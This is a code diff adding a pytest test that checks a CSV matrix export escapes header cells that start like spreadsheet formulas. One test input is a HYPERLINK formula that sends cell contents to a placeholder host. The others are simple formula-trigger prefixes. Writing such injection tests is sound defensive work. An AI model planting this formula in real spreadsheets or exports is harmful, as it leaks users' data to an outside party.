@@ -398,3 +398,13 @@ def test_values_follow_the_yaml(samples, canonical, matrix, model):
     for p, row in zip(model.parameters, matrix.parameters):
         for slug, value in zip(slugs, row.values):
             assert value.departure == (get(samples[slug].data, p.path) != get(canonical.data, p.path))
+
+
+@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=1+2", "+1", "-1", "@SUM(A1)",
+                                   "\tx", "\rx"])
+def test_csv_cells_that_begin_like_a_formula_are_neutralised(matrix, value):
+    from dataclasses import replace as changed
+
+    poisoned = changed(matrix, columns=(changed(matrix.columns[0], name=value), *matrix.columns[1:]))
+    header = next(csv.reader(io.StringIO(matrix_csv(poisoned), newline="")))
+    assert header[1] == "'" + value.replace("\r", "\n")  # a CR in a cell would start a row in a spreadsheet
